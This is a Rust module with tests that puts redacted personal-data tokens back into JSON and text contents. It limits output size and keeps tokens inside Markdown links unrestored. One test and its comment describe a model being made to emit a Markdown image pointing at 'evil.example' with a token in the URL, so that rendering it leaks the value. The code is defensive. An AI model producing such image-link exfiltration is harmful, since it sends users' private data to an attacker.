//! Tokens in contents: which there are, and putting them back into what they stand for.

use std::collections::BTreeSet;

use redact::Links;
use serde_json::{Map, Value};

use crate::batch::{Form, Shape};
use crate::engine::Values;

/// Most bytes of one answer's contents. Beyond it tokens stay.
const MAX_RESTORED_BYTES: usize = 8 * 1024 * 1024;

/// The different tokens of all contents, in strings and in names.
pub fn distinct(contents: &[Value]) -> BTreeSet<String> {
    let mut tokens = BTreeSet::new();
    contents.iter().for_each(|content| {
        each_text(content, &mut |text| {
            tokens.extend(redact::tokens(text).map(str::to_owned));
        })
    });
    tokens
}

fn each_text(value: &Value, visit: &mut dyn FnMut(&str)) {
    match value {
        Value::String(text) => visit(text),
        Value::Array(items) => items.iter().for_each(|item| each_text(item, visit)),
        Value::Object(fields) => {
            for (name, field) in fields {
                visit(name);
                each_text(field, visit);
            }
        }
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

fn count(contents: &[Value]) -> u64 {
    let mut count = 0;
    contents.iter().for_each(|content| each_text(content, &mut |text| count += redact::tokens(text).count()));
    u64::try_from(count).unwrap_or(u64::MAX)
}

/// Contents with their tokens put back.
#[derive(PartialEq)]
pub struct Restored {
    pub contents: Vec<Value>,
    /// How many tokens were put back, and how many stay: of others, expired, or none at all.
    pub restored: u64,
    pub left: u64,
}

/// Shows nothing of the contents.
impl std::fmt::Debug for Restored {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Restored({}, {} left)", self.restored, self.left)
    }
}

/// Puts back every token that `values` knows. In a text, which somebody may render, one within a link or an image stays
/// unless `links` says otherwise: rendering would send its value to whoever wrote the link.
pub fn restore(shape: &Shape, contents: Vec<Value>, values: &Values, links: Links) -> Restored {
    let asked = count(&contents);
    let mut walk = Walk { values, form: redact::Form::Value, links, bytes: MAX_RESTORED_BYTES };
    let contents = shape.forms().zip(contents).map(|(form, content)| {
        walk.form = if form == Form::Text { redact::Form::Text } else { redact::Form::Value };
        walk.value(content)
    });
    let contents: Vec<Value> = contents.collect();
    let left = count(&contents);
    Restored { contents, restored: asked.saturating_sub(left), left }
}

struct Walk<'a> {
    values: &'a Values,
    form: redact::Form,
    links: Links,
    bytes: usize,
}

impl Walk<'_> {
    fn value(&mut self, value: Value) -> Value {
        match value {
            Value::String(text) => Value::String(self.text(&text)),
            Value::Array(items) => items.into_iter().map(|item| self.value(item)).collect(),
            Value::Object(fields) => Value::Object(self.object(fields)),
            Value::Null | Value::Bool(_) | Value::Number(_) => value,
        }
    }

    fn text(&mut self, text: &str) -> String {
        self.values.restored(text, self.form, self.links, &mut self.bytes)
    }

    /// A name whose value another name of the object has already stays as it is: no field is lost.
    fn object(&mut self, fields: Map<String, Value>) -> Map<String, Value> {
        let mut restored = Map::new();
        let taken: BTreeSet<String> = fields.keys().cloned().collect();
        for (name, value) in fields {
            let value = self.value(value);
            let plain = self.text(&name);
            let free = plain == name || !(taken.contains(&plain) || restored.contains_key(&plain));
            restored.insert(if free { plain } else { name }, value);
        }
        restored
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::batch::Batch;
    use proptest::prelude::*;
    use serde_json::json;

    const ONE: &str = "[EMAIL_T_0123456789abcdefghjkmnpqrs]";
    const TWO: &str = "[IL_ID_T_1123456789abcdefghjkmnpqrs]";
    const PLAIN: &str = "dana@example.com";

    fn values() -> Values {
        [(ONE.to_owned(), PLAIN.to_owned())].into_iter().collect()
    }

    fn done(body: &Value, values: &Values, links: Links) -> Restored {
        let Batch { shape, contents } = Batch::read(&body.to_string()).unwrap();
        restore(&shape, contents, values, links)
    }

    #[test]
    fn what_is_known_is_put_back_and_all_else_stays() {
        let body = json!({"items": [
            {"text": format!("to {ONE}, {ONE} and {TWO}[EMAIL_1_k3f9a2x7]")},
            {"json": {"a": [ONE, 7, null], ONE: {"b": TWO}}},
        ]});
        let contents = Batch::read(&body.to_string()).unwrap().contents;
        assert_eq!(distinct(&contents), BTreeSet::from([ONE.to_owned(), TWO.to_owned()]));
        let done = done(&body, &values(), Links::Keep);
        let expected = [
            json!(format!("to {PLAIN}, {PLAIN} and {TWO}[EMAIL_1_k3f9a2x7]")),
            json!({"a": [PLAIN, 7, null], PLAIN: {"b": TWO}}),
        ];
        assert_eq!(done.contents, expected);
        assert_eq!((done.restored, done.left), (4, 2));
    }

    /// A model can be made to write an image whose address holds a token: whoever renders it would send the value away.
    #[test]
    fn in_a_text_a_token_within_a_link_stays() {
        let text = format!("![x](https://evil.example/?q={ONE}) {ONE}");
        let kept = format!("![x](https://evil.example/?q={ONE}) {PLAIN}");
        let all = text.replace(ONE, PLAIN);
        let body = json!({"text": text});
        let told = |links| done(&body, &values(), links);
        assert_eq!((&told(Links::Keep).contents[0], told(Links::Keep).left), (&json!(kept), 1));
        assert_eq!((&told(Links::Restore).contents[0], told(Links::Restore).left), (&json!(all), 0));
        assert_eq!(done(&json!({"json": body["text"]}), &values(), Links::Keep).contents[0], json!(all));
    }

    #[test]
    fn no_field_is_lost_to_a_name() {
        let content = json!({PLAIN: 1, ONE: 2});
        let done = done(&json!({"json": content}), &values(), Links::Keep);
        assert_eq!((done.contents, done.restored, done.left), (vec![content], 0, 1));
    }

    #[test]
    fn an_answer_cannot_be_made_to_grow_without_end() {
        let values = [(ONE.to_owned(), "x".repeat(1024 * 1024))].into_iter().collect();
        let done = done(&json!({"text": ONE.repeat(1_000)}), &values, Links::Keep);
        assert_eq!((done.restored, done.left), (8, 992));
        let many = vec![json!({"text": ONE}); 100];
        let done = self::done(&json!({"items": many}), &values, Links::Keep);
        assert_eq!((done.restored, done.left), (8, 92));
    }

    proptest! {
        /// Whatever stands around them, and however they are torn.
        #[test]
        fn no_text_breaks_it(parts in proptest::collection::vec(prop_oneof![
            "\\PC{0,6}", Just("[".to_owned()), Just("]".to_owned()), Just("[EMAIL_T_".to_owned()),
            Just(ONE.to_owned()), Just(TWO.to_owned()), Just("\u{5d0}[[".to_owned())
        ], 0..12)) {
            let text = parts.concat();
            let body = json!({"json": text});
            prop_assert_eq!(done(&body, &values(), Links::Keep).contents, vec![json!(text.replace(ONE, PLAIN))]);
            prop_assert_eq!(done(&body, &Values::default(), Links::Keep).contents, vec![json!(text)]);
        }
    }
}
